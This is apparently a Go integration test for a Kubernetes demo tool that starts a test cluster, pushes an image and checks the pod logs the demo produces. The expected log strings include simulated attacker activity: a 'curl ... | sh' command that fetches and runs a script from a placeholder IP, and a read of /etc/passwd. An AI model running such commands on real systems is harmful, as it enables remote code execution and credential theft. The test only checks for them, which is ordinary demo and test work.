package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/tools/clientcmd"

	"kir.dev/kir/internal/kubetest"
)

// TestDemoCluster runs testcluster as make demo does and checks what the
// demo relies on: the registry takes an image, and a pod of the app's
// namespace that names it reports it as imageID, with a log and a previous
// log; a pod elsewhere has no logs.
func TestDemoCluster(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	kubeconfig := filepath.Join(t.TempDir(), "kubeconfig")
	var stdout syncBuffer
	var runErr error
	done := make(chan struct{})
	go func() {
		defer close(done)
		runErr = run(ctx, func() {}, []string{"--kubeconfig-out", kubeconfig, "--app-namespace", "shop"}, &stdout, io.Discard)
	}()
	defer func() {
		cancel()
		<-done
	}()

	err := kubetest.Eventually(ctx, 2*time.Minute, func(context.Context) (bool, error) {
		select {
		case <-done:
			return false, fmt.Errorf("testcluster stopped before it was ready: %v", runErr)
		default:
			return strings.HasSuffix(stdout.String(), "ready\n"), nil
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	var reg string
	if _, err := fmt.Sscanf(stdout.String(), "registry %s\nready\n", &reg); err != nil {
		t.Fatalf("stdout %q: want \"registry HOST:PORT\" then \"ready\": %v", stdout.String(), err)
	}
	imageID := push(t, reg+"/shop/web:1.0")

	cfg, err := clientcmd.BuildConfigFromFlags("", kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	client, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	app := startPod(t, client, "shop", map[string]string{kubetest.ImageIDAnnotation: imageID})
	other := startPod(t, client, "elsewhere", nil)

	if got := app.Status.ContainerStatuses; len(got) != 1 || got[0].ImageID != imageID || got[0].RestartCount != 1 {
		t.Errorf("container statuses %+v: want one with imageID %s and restartCount 1", got, imageID)
	}
	for _, tc := range []struct {
		previous bool
		want     []string
	}{
		{false, []string{attacker, "curl -s http://203.0.113.66/x.sh|sh"}},
		{true, []string{attacker, "/etc/passwd", "panic: "}},
	} {
		b, err := client.CoreV1().Pods("shop").GetLogs(app.Name, &corev1.PodLogOptions{Previous: tc.previous}).DoRaw(ctx)
		if err != nil {
			t.Errorf("log of %s (previous=%v): %v", app.Name, tc.previous, err)
			continue
		}
		for _, w := range tc.want {
			if !bytes.Contains(b, []byte(w)) {
				t.Errorf("log of %s (previous=%v) does not contain %q:\n%s", app.Name, tc.previous, w, b)
			}
		}
	}
	if b, err := client.CoreV1().Pods("elsewhere").GetLogs(other.Name, &corev1.PodLogOptions{}).DoRaw(ctx); err == nil {
		t.Errorf("log of a pod outside the app's namespace: got %q, want an error", b)
	}

	cancel()
	<-done
	if runErr != nil {
		t.Errorf("testcluster ended with %v, want nil once stopped", runErr)
	}
}

// push pushes a random image as ref and returns its reference by digest.
func push(t *testing.T, ref string) string {
	t.Helper()
	tag, err := name.NewTag(ref)
	if err != nil {
		t.Fatal(err)
	}
	img, err := random.Image(1024, 1)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(tag, img, remote.WithContext(t.Context())); err != nil {
		t.Fatalf("pushing to the registry: %v", err)
	}
	d, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return tag.Context().Digest(d.String()).String()
}

// startPod creates namespace ns and a pod in it on the cluster's node, and
// returns the pod once it runs.
func startPod(t *testing.T, client kubernetes.Interface, ns string, annotations map[string]string) *corev1.Pod {
	t.Helper()
	ctx := t.Context()
	if _, err := client.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	err := kubetest.Eventually(ctx, 30*time.Second, func(ctx context.Context) (bool, error) {
		_, err := client.CoreV1().ServiceAccounts(ns).Get(ctx, "default", metav1.GetOptions{})
		return err == nil, nil
	})
	if err != nil {
		t.Fatalf("waiting for the default ServiceAccount of %s: %v", ns, err)
	}
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "web", Annotations: annotations},
		Spec: corev1.PodSpec{
			NodeName:   "kir-demo-node-1",
			Containers: []corev1.Container{{Name: "web", Image: "web:1.0"}},
		},
	}
	if _, err := client.CoreV1().Pods(ns).Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	var got *corev1.Pod
	err = kubetest.Eventually(ctx, time.Minute, func(ctx context.Context) (bool, error) {
		got, err = client.CoreV1().Pods(ns).Get(ctx, pod.Name, metav1.GetOptions{})
		return err == nil && got.Status.Phase == corev1.PodRunning, err
	})
	if err != nil {
		t.Fatalf("pod %s/%s never ran: %v", ns, pod.Name, err)
	}
	return got
}

// syncBuffer is a bytes.Buffer that run writes while the test reads.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}
